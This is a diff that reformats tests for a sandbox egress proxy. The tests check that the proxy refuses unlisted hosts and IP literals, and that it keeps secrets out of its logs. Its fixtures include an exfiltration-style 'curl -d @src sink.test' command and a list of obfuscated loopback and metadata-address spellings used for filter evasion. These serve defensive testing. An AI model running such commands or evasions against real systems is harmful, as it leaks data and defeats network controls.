@@ -13,7 +13,10 @@ import { startEgressProxy, type EgressProxy } from "../../../src/sandbox/egress/
 const p = (text: string) => parseHostPattern(text) as HostPattern;
 const rule: NetworkRule = {
   mode: "allow-list",
-  allow: ["registry.test", "loop.test", "mixed.test", "meta.test", "mapped.test", "nx.test"].map((t) => ({ pattern: p(t), source: `network.allow: "${t}"` })),
+  allow: ["registry.test", "loop.test", "mixed.test", "meta.test", "mapped.test", "nx.test"].map((t) => ({
+    pattern: p(t),
+    source: `network.allow: "${t}"`,
+  })),
   deny: [],
 };
 const ANSWERS: Record<string, string[]> = {
@@ -67,21 +70,29 @@ describe("the egress proxy refuses", () => {
   });
 
   it("a plain-HTTP request to such a host, with its path and headers kept out of the record", async () => {
-    const answer = await send("POST http://sink.test/upload?secret=s3cr3t HTTP/1.1\r\nHost: sink.test\r\nAuthorization: Bearer TOPSECRET\r\nContent-Length: 4\r\n\r\ndata", "curl -d @src sink.test");
+    const answer = await send(
+      "POST http://sink.test/upload?secret=s3cr3t HTTP/1.1\r\nHost: sink.test\r\nAuthorization: Bearer TOPSECRET\r\nContent-Length: 4\r\n\r\ndata",
+      "curl -d @src sink.test",
+    );
     expect(answer).toMatch(/^HTTP\/1.1 403/);
     const record = proxy.blocked().find((b) => b.command === "curl -d @src sink.test");
     expect(record).toMatchObject({ host: "sink.test", port: 80, marker: "run/7", count: 1 });
     expect(JSON.stringify(proxy.blocked())).not.toMatch(/upload|s3cr3t|TOPSECRET|Bearer/);
   });
 
-  it.each(["192.0.2.20:80", "169.254.169.254:80", "2130706433:443", "0177.0.0.1:443", "0x7f.1:443", "[::1]:443", "[::ffff:127.0.0.1]:443"])(
-    "an IP literal, %s, in any spelling",
-    async (target) => {
-      const answer = await send(`CONNECT ${target} HTTP/1.1\r\n\r\n`);
-      expect(answer).toMatch(/^HTTP\/1.1 403/);
-      expect(answer).toContain("is an IP address");
-    },
-  );
+  it.each([
+    "192.0.2.20:80",
+    "169.254.169.254:80",
+    "2130706433:443",
+    "0177.0.0.1:443",
+    "0x7f.1:443",
+    "[::1]:443",
+    "[::ffff:127.0.0.1]:443",
+  ])("an IP literal, %s, in any spelling", async (target) => {
+    const answer = await send(`CONNECT ${target} HTTP/1.1\r\n\r\n`);
+    expect(answer).toMatch(/^HTTP\/1.1 403/);
+    expect(answer).toContain("is an IP address");
+  });
 
   it.each([
     ["loop.test", "loopback"],
@@ -108,6 +119,8 @@ describe("the egress proxy refuses", () => {
   it("counts repeated attempts of one command at one host once, with a count", async () => {
     await send("CONNECT again.test:443 HTTP/1.1\r\n\r\n", "npm test");
     await send("CONNECT again.test:443 HTTP/1.1\r\n\r\n", "npm test");
-    expect(proxy.blocked().filter((b) => b.host === "again.test")).toEqual([expect.objectContaining({ count: 2, command: "npm test", port: 443 })]);
+    expect(proxy.blocked().filter((b) => b.host === "again.test")).toEqual([
+      expect.objectContaining({ count: 2, command: "npm test", port: 443 }),
+    ]);
   });
 });
